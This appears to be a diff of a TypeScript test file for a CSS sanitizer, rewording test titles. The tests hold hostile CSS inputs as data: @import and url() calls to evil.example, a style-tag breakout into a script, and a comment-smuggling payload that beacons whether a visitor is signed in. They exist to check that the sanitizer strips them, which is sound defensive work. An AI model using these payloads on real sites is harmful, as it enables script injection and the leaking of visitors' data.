@@ -4,7 +4,7 @@ import { cleanCss, sanitizeCss } from "./css";
 
 const flat = (css: string) => cleanCss(css).replace(/\s+/g, " ").trim();
 
-describe("a stylesheet that only changes the looks of the page", () => {
+describe("a rule that only changes the appearance of the page", () => {
   it.each([
     ["h1 { color: red }", "h1 { color: red; }"],
     ["h1{color:red;margin:0 auto!important}", "h1 { color:red; margin:0 auto!important; }"],
@@ -24,7 +24,7 @@ describe("a stylesheet that only changes the looks of the page", () => {
   ])("is kept: %s", (css, kept) => expect(flat(css)).toBe(kept));
 });
 
-describe("a rule that could load, run or reach beyond the page", () => {
+describe("a rule that could load or run something, or change more than the page", () => {
   it.each([
     '@import "https://evil.example/x.css";',
     "@import url(https://evil.example/x.css);",
@@ -64,12 +64,12 @@ describe("a rule that could load, run or reach beyond the page", () => {
     "@supports (background: url(https://evil.example)) { }",
     "color: red",
     "}}} @import 'x';",
-  ])("is left out: %s", (css) => {
+  ])("is removed: %s", (css) => {
     const cleaned = flat(`${css}\nb { color: red }`);
     expect(cleaned).not.toMatch(/url|image|import|evil|expression|binding|behavior|script|charset|src|element|@f|@p/i);
   });
 
-  it("does not remove its neighbours", () => {
+  it("is removed without the rules and declarations next to it", () => {
     expect(flat("h1 { color: red; background: url(x); margin: 0 } b { top: 0 }")).toBe(
       "h1 { color: red; margin: 0; } b { top: 0; }",
     );
@@ -90,9 +90,9 @@ describe("a broken stylesheet", () => {
     ["a:not( { color: red } h1 { margin: 0 }", "h1 { margin: 0; }"],
     ["<!-- h1 { color: red } -->", "h1 { color: red; }"],
     ["a { color: red; <!-- b: c; top: 0 }", "a { color: red; top: 0; }"],
-  ])("is closed or left out: %s", (css, kept) => expect(flat(css)).toBe(kept));
+  ])("is closed or removed: %s", (css, kept) => expect(flat(css)).toBe(kept));
 
-  it("never ends a style element, in rules and in strings", () => {
+  it("cannot end a style element, in rules or in strings", () => {
     for (const css of [
       "</style><script>alert(1)</script>",
       "h1 { content: '</style><script>' }",
@@ -101,7 +101,7 @@ describe("a broken stylesheet", () => {
       expect(cleanCss(css)).not.toMatch(/<[/!a-z]/i);
   });
 
-  it("is returned with as many opening as closing braces, and sanitizes to itself", () => {
+  it("is sanitized to a stylesheet with balanced braces that sanitizing again does not change", () => {
     const parts = ["{", "}", ";", "'", '"', "/*", "*/", "\\", "(", ")", "[", "@media x", "url(", "a:b", "\n", "<", "é"];
     let seed = 7;
     const pick = () => {
@@ -125,7 +125,7 @@ describe("a broken stylesheet", () => {
   });
 });
 
-describe("a comment that only appears once something else is removed", () => {
+describe("a comment that appears when other parts are removed", () => {
   const payloads = [
     `a { --a: /<*; --b: "*/; } body { background: url(https://evil.example/any-visitor.png) }
 a[href*='dashboard'] { background: url(https://evil.example/visitor-is-signed-in.png) !important } /*"; }`,
@@ -146,7 +146,7 @@ a[href*='dashboard'] { background: url(https://evil.example/visitor-is-signed-in
   });
 });
 
-/** What is left of a stylesheet without comments when its strings are taken out, as CSS reads strings. */
+/** A stylesheet without comments, without its strings. */
 const withoutStrings = (css: string) => css.replace(/"(\\[\s\S]|[^"\\\n])*"|'(\\[\s\S]|[^'\\\n])*'/g, "");
 
 it("a sanitized random stylesheet loads nothing and has no comment and no open string", () => {
